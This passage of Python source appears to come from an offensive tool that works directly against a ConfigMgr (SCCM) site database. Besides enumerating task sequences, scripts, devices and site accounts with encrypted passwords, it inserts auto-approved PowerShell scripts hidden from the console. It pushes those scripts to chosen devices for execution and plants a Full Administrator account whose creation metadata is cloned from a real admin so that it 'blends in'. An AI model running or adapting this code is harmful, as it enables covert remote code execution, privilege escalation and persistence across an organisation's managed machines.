SELECT ref.ReferencePackageID, ref.ReferencePackageType, ref.ReferenceName AS ContentName, ref.ReferenceVersion AS Version,
	ref.ReferenceDescription AS Description, ref.ReferenceProgramName AS ProgramName
FROM [{db}].dbo.v_TaskSequenceReferencesInfo ref
WHERE ref.PackageID = '{escape(packageId)}'
ORDER BY ref.ReferencePackageType, ref.ReferenceName;""")
					if 'ReferencePackageType' in refs.columns:
						refs.insert(list(refs.columns).index('ReferencePackageType'), 'ContentType', [CMService.decode_package_type(v) for v in refs['ReferencePackageType']])
					OutputUtil.print_table(refs)
					maybeSleep()
				else:
					print_warning("No referenced content found")

				print("[+] Task Sequence Deployments")
				deployments = qs.execute_table(f"""
SELECT adv.AdvertisementID, adv.AdvertisementName, adv.CollectionID, c.Name AS CollectionName, c.MemberCount,
	adv.PresentTime, adv.ExpirationTime,
	CASE WHEN adv.AdvertFlags & 0x00000020 = 0x00000020 THEN 'Required' ELSE 'Available' END AS DeploymentType
FROM [{db}].dbo.v_Advertisement adv
LEFT JOIN [{db}].dbo.v_Collection c ON adv.CollectionID = c.CollectionID
WHERE adv.PackageID = '{escape(packageId)}'
ORDER BY adv.PresentTime DESC;""")
				if len(deployments) == 0:
					print_warning("Task sequence not deployed to any collections")
				else:
					OutputUtil.print_table(deployments)
					members = sum(CMService.to_int(v) or 0 for v in deployments['MemberCount']) if 'MemberCount' in deployments.columns else 0
					print(f"[+] Task sequence deployed to {len(deployments)} collection(s), {members} device(s) potentially targeted")
				return ts
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

#####################################################
#                     Scripts                       #
#####################################################

def getScripts(ctx, filter = None):
	print_yellow("[*] Enumerating ConfigMgr scripts")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		where = f" AND ScriptName LIKE {like(filter)}" if filter else ""
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				table = ctx.query_service.execute_table(f"SELECT ScriptGuid, ScriptName, ScriptVersion, Author, Approver, ApprovalState, LastUpdateTime, ScriptDescription, ParamsDefinition "
														f"FROM [{db}].dbo.Scripts WHERE ScriptGuid <> '{CMService.CMPIVOT_GUID}'{where} ORDER BY LastUpdateTime DESC;")
				if len(table) == 0:
					print_warning("No scripts found")
					continue
				if 'ApprovalState' in table.columns:
					table['ApprovalState'] = [CMService.decode_script_approval(v) for v in table['ApprovalState']]
				if 'ParamsDefinition' in table.columns:
					table['ParamsDefinition'] = [CMService.decode_params_definition(v) for v in table['ParamsDefinition']]
				OutputUtil.print_table(table)
			except SQLError as e:
				print_warning(f"Failed to enumerate {db}: {str(e)}")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getScript(ctx, guid):
	print_yellow(f"[*] Retrieving ConfigMgr script {guid}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				rows = ctx.query_service.execute(f"SELECT * FROM [{db}].dbo.Scripts WHERE ScriptGuid = '{escape(guid)}';")
			except SQLError as e:
				print_warning(f"Failed to query {db}: {str(e)}")
				continue
			if rows == []:
				continue

			row = rows[0]
			details = {}
			for key in ['ScriptName', 'ScriptGuid', 'ScriptVersion', 'Author', 'Approver', 'ScriptDescription']:
				details[key] = '' if row.get(key) is None else str(row.get(key))
			details['ApprovalState'] = CMService.decode_script_approval(row.get('ApprovalState'))
			details['LastUpdateTime'] = format_datetime(row.get('LastUpdateTime'), '%Y-%m-%d %H:%M:%S')
			OutputUtil.print_dict(details)

			params = CMService.decode_params_definition(row.get('ParamsDefinition'))
			if params != '':
				print("[+] Script Parameters:")
				print(params)
				print()

			content = CMService.decode_script_content(row.get('Script'))
			if content == '':
				print_warning("Script content is empty")
			else:
				print("[+] Script Content:")
				print()
				print(content)
			return row

		print_warning(f"Script with GUID '{guid}' not found in any ConfigMgr database")
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def addScript(ctx, file, name = None, guid = None):
	print_yellow("[*] Adding ConfigMgr script")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		if not os.path.isfile(file):
			print(f"[-] Script file not found: {file}", file = sys.stderr)
			return
		with open(file, 'r', encoding = 'utf-8-sig') as f:
			content = f.read()

		name = name or f"CMDeploy0{random.randint(0, 9)}"
		guid = (guid or str(uuid.uuid4())).upper()
		scriptHex = content.encode('utf-16-le').hex().upper()
		scriptHash = CMService.hash_script(content)

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				ctx.query_service.execute_non_query(f"""
INSERT INTO [{db}].dbo.Scripts
(ScriptGuid, ScriptVersion, ScriptName, Script, ScriptType, Approver, ApprovalState, Feature, Author, LastUpdateTime, ScriptHash, Comment, ScriptDescription)
VALUES
('{escape(guid)}', 1, '{escape(name)}', 0x{scriptHex}, 0, 'CM', 3, 1, 'CM', '', '{scriptHash}', '', '');""")
				print("[+] Script added successfully")
				print(f"\t[+] Script GUID: {guid}")
				print(f"\t[+] Script Name: {name}")
				print(f"\t[+] Script Hash: {scriptHash}")
				print("\t[+] Auto-approved and hidden from console")
			except SQLError as e:
				print(f"[-] Failed to add script: {str(e)}", file = sys.stderr)
		return guid
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def deleteScript(ctx, guid):
	print_yellow(f"[*] Deleting ConfigMgr script {guid}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		if guid.strip().upper() == CMService.CMPIVOT_GUID:
			print("[-] Refusing to delete the built-in CMPivot script", file = sys.stderr)
			return

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				affected = ctx.query_service.execute_non_query(f"DELETE FROM [{db}].dbo.Scripts WHERE ScriptGuid = '{escape(guid)}';")
				if affected > 0:
					print(f"[+] Script deleted successfully ({affected} row(s) affected)")
				else:
					print_warning(f"No script found with GUID: {guid}")
			except SQLError as e:
				print(f"[-] Failed to delete script: {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def printScriptOutput(output):
	if output is None or str(output) == '':
		print_warning("No output received")
		return
	output = str(output)
	if output.startswith('[') and output.endswith(']'):
		try:
			for line in json.loads(output):
				print(line)
			return
		except ValueError:
			pass
	print(output)

def runScript(ctx, guid, resourceId, wait = DEFAULT_WAIT):
	print_yellow(f"[*] Executing ConfigMgr script on ResourceID {resourceId}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		qs = ctx.query_service
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				scripts = qs.execute(f"SELECT ScriptHash, ScriptVersion, ScriptName FROM [{db}].dbo.Scripts WHERE ScriptGuid = '{escape(guid)}';")
				if scripts == []:
					print(f"[-] Script not found: {guid}", file = sys.stderr)
					continue
				script = scripts[0]
				print(f"\t[+] Script: {script['ScriptName']}")
				print(f"\t[+] Version: {script['ScriptVersion']}")

				devices = qs.execute(f"SELECT sys.Name0, bgb.OnlineStatus, bgb.LastOnlineTime FROM [{db}].dbo.v_R_System sys "
									f"LEFT JOIN [{db}].dbo.BGB_ResStatus bgb ON sys.ResourceID = bgb.ResourceID WHERE sys.ResourceID = {int(resourceId)};")
				if devices == []:
					print(f"[-] Device not found: ResourceID {resourceId}", file = sys.stderr)
					continue
				print(f"\t[+] Target device: {devices[0]['Name0'] or 'Unknown'}")

				taskParam = CMService.build_script_task_param(guid, script['ScriptVersion'], script['ScriptHash'])
				taskGuid = str(uuid.uuid4()).upper()
				qs.execute_non_query(f"INSERT INTO [{db}].dbo.BGB_Task (TemplateID, CreateTime, Signature, GUID, Param) VALUES (15, '', NULL, '{taskGuid}', '{taskParam}');")
				print("[+] Created BGB_Task entry")
				print(f"\t[+] Task GUID: {taskGuid}")

				taskId = qs.execute_scalar(f"SELECT TaskID FROM [{db}].dbo.BGB_Task WHERE GUID = '{taskGuid}';")
				if taskId is None:
					print("[-] Could not read back the TaskID", file = sys.stderr)
					continue
				taskId = int(taskId)
				print(f"\t[+] Task ID: {taskId}")

				qs.execute_non_query(f"INSERT INTO [{db}].dbo.BGB_ResTask (ResourceID, TemplateID, TaskID, Param) VALUES ({int(resourceId)}, 15, {taskId}, N'');")
				print("[+] Task pushed to device")

				print("[+] Checking execution status...")
				time.sleep(wait)
				status = qs.execute(f"SELECT ScriptExecutionState, ScriptExitCode, ScriptOutput FROM [{db}].dbo.ScriptsExecutionStatus WHERE TaskID = {taskId};")
				if status == []:
					print_warning("Script is still executing or waiting in queue")
					print(f"\t[+] Use --scriptStatus {taskId} to check status")
					continue
				print(f"[+] Script execution completed (Exit Code: {status[0]['ScriptExitCode']})")
				print()
				printScriptOutput(status[0]['ScriptOutput'])
				return taskId
			except SQLError as e:
				print(f"[-] Failed to execute script: {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

def getScriptStatus(ctx, taskId):
	print_yellow(f"[*] Retrieving ConfigMgr script execution {taskId}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				rows = ctx.query_service.execute(f"""
SELECT ses.TaskID, ses.ScriptExecutionState, ses.ScriptExitCode, ses.ScriptOutput, ses.LastUpdateTime,
	s.ScriptName, s.ScriptGuid, sys.Name0 AS DeviceName, sys.ResourceID
FROM [{db}].dbo.ScriptsExecutionStatus ses
LEFT JOIN [{db}].dbo.Scripts s ON ses.ScriptGuid = s.ScriptGuid
LEFT JOIN [{db}].dbo.v_R_System sys ON ses.ResourceID = sys.ResourceID
WHERE ses.TaskID = {int(taskId)};""")
			except SQLError as e:
				print_warning(f"Failed to query {db}: {str(e)}")
				continue
			if rows == []:
				print_warning(f"No execution found for TaskID {taskId}")
				continue

			row = rows[0]
			details = {k: '' if v is None else str(v) for k, v in row.items() if k != 'ScriptOutput'}
			OutputUtil.print_dict(details)
			print("[+] Script Output:")
			print()
			printScriptOutput(row.get('ScriptOutput'))
			return row
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

##################################################
#                     RBAC                       #
##################################################

FULL_ADMIN_ROLE = 'SMS0001R'
FULL_ADMIN_SCOPES = [('SMS00ALL', 29), ('SMS00001', 1), ('SMS00004', 1)]

def pickTemplate(admins):
	# A mid-list entry blends in better than the newest admin
	if len(admins) >= 5:
		return 2
	return len(admins) // 2

def addRbacAdmin(ctx, account, fullAdmin = False):
	print_yellow(f"[*] Adding ConfigMgr RBAC admin {account}")
	print_yellow("---")
	print()

	try:
		if ctx == '':
			print("[-] No connection available", file = sys.stderr)
			return

		qs = ctx.query_service
		_, databases = siteDatabases(ctx)
		for db in databases:
			printSite(db)
			try:
				admins = qs.execute(f"""
SELECT TOP 10 AdminID, AdminSID, LogonName, IsGroup, IsDeleted, CreatedBy, CreatedDate, ModifiedBy, ModifiedDate, SourceSite
FROM [{db}].dbo.RBAC_Admins
WHERE IsDeleted = 0 AND IsGroup = 0
ORDER BY CreatedDate DESC;""")
				if admins == []:
					print("[-] No existing RBAC user admins found to mimic", file = sys.stderr)
					continue

				index = pickTemplate(admins)
				template = admins[index]
				print(f"\t[+] Using template admin: {template['LogonName']} (entry {index + 1} of {len(admins)})")

				createdDate = format_datetime(template['CreatedDate'])
				modifiedDate = format_datetime(template['ModifiedDate'])
				qs.execute_non_query(f"""
INSERT INTO [{db}].dbo.RBAC_Admins (AdminSID, LogonName, IsGroup, IsDeleted, CreatedBy, CreatedDate, ModifiedBy, ModifiedDate, SourceSite)
VALUES (SUSER_SID('{escape(account)}'), '{escape(account)}', 0, 0, '{escape(template['CreatedBy'] or '')}', '{createdDate}',
	'{escape(template['ModifiedBy'] or '')}', '{modifiedDate}', '{escape(template['SourceSite'] or '')}');""")
				print("[+] RBAC admin created successfully")
				print(f"\t[+] Account: {account}")
				print(f"\t[+] CreatedBy: {template['CreatedBy']}")
				print(f"\t[+] CreatedDate: {createdDate}")
				print(f"\t[+] ModifiedBy: {template['ModifiedBy']}")
				print(f"\t[+] ModifiedDate: {modifiedDate}")

				if fullAdmin:
					values = ", ".join(f"(@AdminID, '{FULL_ADMIN_ROLE}', '{scope}', {scopeType})" for scope, scopeType in FULL_ADMIN_SCOPES)
					affected = qs.execute_non_query(f"DECLARE @AdminID INT = (SELECT TOP 1 AdminID FROM [{db}].dbo.RBAC_Admins WHERE LogonName = '{escape(account)}' ORDER BY AdminID DESC); "
													f"INSERT INTO [{db}].dbo.RBAC_ExtendedPermissions (AdminID, RoleID, ScopeID, ScopeTypeID) VALUES {values};")
					print(f"[+] Full Administrator role granted on All Objects, All Systems and All Users ({affected} row(s) affected)")
				return template
			except SQLError as e:
				print(f"[-] Failed to create RBAC admin: {str(e)}", file = sys.stderr)
	except KeyboardInterrupt:
		exit()
	except Exception as e:
		print_exception(e)

##################################################
#                     MAIN                       #
##################################################

def add_arguments(parser):
	site_group = parser.add_argument_group('[[ Site ]]')
	site_group.add_argument("--info", help = "Site information, components, site system roles, boundaries and distribution points", action = "store_true")
	site_group.add_argument("--servers", help = "List site servers", action = "store_true")
	site_group.add_argument("--admins", help = "List RBAC administrators", action = "store_true")
	site_group.add_argument("--accounts", help = "List site accounts with their encrypted passwords", action = "store_true")
	site_group.add_argument("--distributionPoints", help = "List distribution points", action = "store_true")

	devices_group = parser.add_argument_group('[[ Devices ]]')
	devices_group.add_argument("--devices", help = "List devices with inventoried users and collections", action = "store_true")
	devices_group.add_argument("--health", help = "List client health", action = "store_true")
	devices_group.add_argument("--collections", help = "List collections", action = "store_true")
	devices_group.add_argument("--deviceInfo", metavar = "NAME", help = "Show one device with its collection memberships and targeting deployments")
	devices_group.add_argument("--collection", metavar = "COLLECTIONID", help = "Show one collection with its deployments and members")

	content_group = parser.add_argument_group('[[ Content ]]')
	content_group.add_argument("--applications", help = "List applications", action = "store_true")
	content_group.add_argument("--packages", help = "List packages", action = "store_true")
	content_group.add_argument("--programs", help = "List programs with decoded flags", action = "store_true")
	content_group.add_argument("--deployments", help = "List deployments with decoded flags", action = "store_true")
	content_group.add_argument("--deploymentTypes", help = "List deployment types with parsed install commands and content", action = "store_true")
	content_group.add_argument("--detailed", help = "Show every parsed deployment type field", action = "store_true")
	content_group.add_argument("--technology", help = "Keep deployment types whose technology contains this value (Script, MSI, ...)")
	content_group.add_argument("--taskSequences", help = "List task sequences with their boot image and referenced content count", action = "store_true")
	content_group.add_argument("--taskSequence", metavar = "PACKAGEID", help = "Show one task sequence with its referenced content and deployments")

	scripts_group = parser.add_argument_group('[[ Scripts ]]')
	scripts_group.add_argument("--scripts", help = "List scripts (CMPivot excluded)", action = "store_true")
	scripts_group.add_argument("--script", metavar = "GUID", help = "Show one script with its decoded content")
	scripts_group.add_argument("--scriptAdd", metavar = "FILE", help = "Add an approved script from a PowerShell file")
	scripts_group.add_argument("--scriptName", help = "Name of the added script (default: CMDeploy0<digit>)")
	scripts_group.add_argument("--scriptGuid", help = "GUID of the added script (default: random)")
	scripts_group.add_argument("--scriptDelete", metavar = "GUID", help = "Delete a script")
	scripts_group.add_argument("--scriptRun", metavar = "GUID", help = "Run a script on the device given by --device")
	scripts_group.add_argument("--device", metavar = "RESOURCEID", help = "ResourceID of the target device", type = int)
	scripts_group.add_argument("--wait", help = f"Seconds to wait before reading the script output (default: {DEFAULT_WAIT})", type = int, default = DEFAULT_WAIT)
	scripts_group.add_argument("--scriptStatus", metavar = "TASKID", help = "Show the execution status of a script task", type = int)

	rbac_group = parser.add_argument_group('[[ RBAC ]]')
	rbac_group.add_argument("--rbacAdd", metavar = "ACCOUNT", help = "Add DOMAIN\\account as RBAC admin cloned from an existing admin")
	rbac_group.add_argument("--fullAdmin", help = "Also grant the Full Administrator role on all scopes", action = "store_true")

	filter_group = parser.add_argument_group('[[ Filters ]]')
	filter_group.add_argument("--filter", help = "Filter results by name (SQL LIKE '%%value%%')")
	filter_group.add_argument("--limit", help = f"Maximum rows per query, 0 for no limit (default: {DEFAULT_LIMIT})", type = int, default = DEFAULT_LIMIT)

def handle_arguments(args):
	if args.scriptRun != None and args.device == None:
		print("[-] --scriptRun requires --device", file = sys.stderr)
		return

	actions = []

	# Site
	if args.info:
		actions.append((getInfo, []))
	if args.servers:
		actions.append((getServers, []))
	if args.admins:
		actions.append((getAdmins, [args.filter]))
	if args.accounts:
		actions.append((getAccounts, []))
	if args.distributionPoints:
		actions.append((getDistributionPoints, [args.filter, args.limit]))

	# Devices
	if args.devices:
		actions.append((getDevices, [args.filter, args.limit]))
	if args.health:
		actions.append((getHealth, [args.filter, args.limit]))
	if args.collections:
		actions.append((getCollections, [args.filter, args.limit]))
	if args.deviceInfo != None:
		actions.append((getDevice, [args.deviceInfo]))
	if args.collection != None:
		actions.append((getCollection, [args.collection]))

	# Content
	if args.applications:
		actions.append((getApplications, [args.filter, args.limit]))
	if args.packages:
		actions.append((getPackages, [args.filter, args.limit]))
	if args.programs:
		actions.append((getPrograms, [args.filter, args.limit]))
	if args.deployments:
		actions.append((getDeployments, [args.filter, args.limit]))
	if args.deploymentTypes:
		actions.append((getDeploymentTypes, [args.detailed, args.technology, args.filter, args.limit]))
	if args.taskSequences:
		actions.append((getTaskSequences, [args.filter, args.limit]))
	if args.taskSequence != None:
		actions.append((getTaskSequence, [args.taskSequence]))

	# Scripts
	if args.scripts:
		actions.append((getScripts, [args.filter]))
	if args.script != None:
		actions.append((getScript, [args.script]))
	if args.scriptAdd != None:
		actions.append((addScript, [args.scriptAdd, args.scriptName, args.scriptGuid]))
	if args.scriptDelete != None:
		actions.append((deleteScript, [args.scriptDelete]))
	if args.scriptRun != None:
		actions.append((runScript, [args.scriptRun, args.device, args.wait]))
	if args.scriptStatus != None:
		actions.append((getScriptStatus, [args.scriptStatus]))

	# RBAC
	if args.rbacAdd != None:
		actions.append((addRbacAdmin, [args.rbacAdd, args.fullAdmin]))

	runTargets(args, actions)
